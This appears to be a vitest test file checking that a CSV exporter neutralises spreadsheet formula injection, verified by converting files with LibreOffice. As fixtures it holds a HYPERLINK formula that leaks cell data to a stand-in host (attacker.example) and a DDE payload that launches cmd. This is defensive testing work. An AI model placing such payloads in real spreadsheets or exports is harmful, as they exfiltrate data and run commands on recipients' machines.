// CSV exports cannot smuggle formulas into a spreadsheet: a cell starting with =, +, -, @,
// tab or carriage return is neutralised, and "=HYPERLINK(…)" opens in LibreOffice Calc as
// text, not as a formula (checked in the converted sheet's XML, against a control file with
// the same cell unneutralised, which LibreOffice does read as a formula). Needs `soffice`.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { csvField, neutraliseCell, parseCsv, toCsv } from '../../../shared/questions/csv';
import { buildExport } from '../../../shared/questions/exportModel';
import { question } from './fixtures';

const dir = mkdtempSync(join(tmpdir(), 'scrutineer-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the report")';

describe('CSV formula injection', () => {
  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'])('neutralises a cell starting %j', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
    // The parser gives back exactly what was written: the apostrophe, then the original text.
    expect(parseCsv(`${csvField(value)}\r\n`)).toEqual([[`'${value}`]]);
  });

  it.each(['Plain question', '2017-09-26', ' =spaced', 'a=b', ''])('leaves %j as it is', (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it('opens an exported "=HYPERLINK(…)" agenda title in LibreOffice as text', { timeout: 180_000 }, () => {
    const document = buildExport({
      list: { kind: 'meeting', title: 'Questions for the meeting' },
      meeting: { committee: 'Safe and Strong Communities Select Committee', date: '2017-09-26', time: '2.00 pm', venue: 'Oak Room' },
      questions: [question({ text: LINK, itemTitle: '@SUM(1+1)*cmd|" /C calc"!A0' })],
    });
    writeFileSync(join(dir, 'exported.csv'), toCsv(document));
    // Control: the same cell as a naive writer would put it.
    writeFileSync(join(dir, 'naive.csv'), `Question\r\n"${LINK.replace(/"/g, '""')}"\r\n`);
    execFileSync(
      soffice(),
      [`-env:UserInstallation=${pathToFileURL(join(dir, 'profile')).href}`, '--headless', '--convert-to', 'fods', '--outdir', dir, join(dir, 'exported.csv'), join(dir, 'naive.csv')],
      { stdio: 'pipe', timeout: 170_000 },
    );
    const read = (name: string) => execFileSync('cat', [join(dir, name)], { encoding: 'utf8' });
    const naive = read('naive.fods');
    expect(naive).toMatch(/table:formula="of:=HYPERLINK/);
    const exported = read('exported.fods');
    expect(exported).not.toMatch(/table:formula=/);
    expect(exported).toContain('=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A1,&quot;Click for the report&quot;)');
  });
});

function soffice(): string {
  for (const candidate of [process.env.SOFFICE_PATH, 'soffice', 'libreoffice'].filter(Boolean) as string[]) {
    try {
      execFileSync(candidate, ['--version'], { stdio: 'pipe', timeout: 60_000 });
      return candidate;
    } catch {
      // Try the next name.
    }
  }
  throw new Error('LibreOffice is needed for this test: install libreoffice-calc-nogui (it provides `soffice`), or set SOFFICE_PATH.');
}
